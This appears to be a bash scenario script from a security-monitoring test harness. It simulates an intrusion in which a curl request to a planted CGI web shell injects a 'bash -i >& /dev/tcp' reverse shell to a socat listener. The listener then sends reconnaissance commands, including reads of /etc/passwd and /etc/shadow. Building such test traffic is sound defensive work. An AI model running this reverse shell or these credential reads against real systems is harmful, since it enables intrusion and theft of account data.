# shellcheck shell=bash
# revshell: the web workload; then the server is made to start a reverse
# shell (bash -i over /dev/tcp) to a socat listener in the peer namespace,
# through which the attacker types reconnaissance commands.
. "$EVAL_DIR/workloads/web.sh"
SC_IDX=4
SC_DESC="python3 http.server (CGI) under 4 load modes; attack: bash -i reverse shell over /dev/tcp to a socat listener, commands typed through it"
SC_TOOLS="python3-http.server curl bash socat id uname cat ls ps"
SC_ATTACKER="upload.py sh bash id uname cat ls ps"


# The attacker's listener: sends one command a second, then exits.
revshell_listener() {
	{ for c in id "uname -a" "cat /etc/passwd" "ls -la /" "ps aux" \
		"cat /etc/shadow" "ls -la /tmp" id exit; do
		echo "$c"; sleep 1
	  done; } | timeout 20 socat -t 2 - TCP-LISTEN:4444,reuseaddr > /dev/null 2>&1
}

revshell_attacker() {
	sleep 0.5
	# The initial foothold: the planted web shell starts the reverse shell.
	curl -s -o /dev/null --max-time 2 -G --data-urlencode \
		"c=setsid bash -c 'bash -i >& /dev/tcp/$PEER_IP/4444 0>&1' >/dev/null 2>&1 &" \
		"http://$HOST_IP:8080/cgi-bin/upload.py"
}
sc_attack() {
	peer_fn revshell_listener
	peer_fn revshell_attacker
}
